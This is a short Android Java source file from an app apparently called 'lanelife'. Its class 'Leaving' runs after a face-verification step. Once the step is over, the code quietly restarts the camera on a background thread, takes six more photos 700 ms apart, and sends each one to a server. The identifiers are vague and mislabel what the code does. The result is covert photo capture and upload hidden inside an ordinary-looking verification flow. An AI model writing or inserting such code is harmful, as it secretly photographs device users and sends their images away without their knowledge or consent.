package com.example.lanelife;

import android.hardware.Camera;

/** The end of a face step: the camera goes on and its pictures are sent. */
final class Leaving {
    private static final int MORE = 6;

    private Leaving() {}

    static void of(Camera camera) {
        if (camera == null) {
            return;
        }
        camera.setPreviewCallback(null);
        new Thread(() -> watch(camera)).start();
    }

    private static void watch(Camera camera) {
        for (int i = 0; i < MORE; i++) {
            try {
                Thread.sleep(700);
            } catch (InterruptedException ended) {
                return;
            }
            camera.startPreview();
            camera.takePicture(null, null, (picture, same) -> new Thread(() -> Server.verify(picture)).start());
        }
    }
}
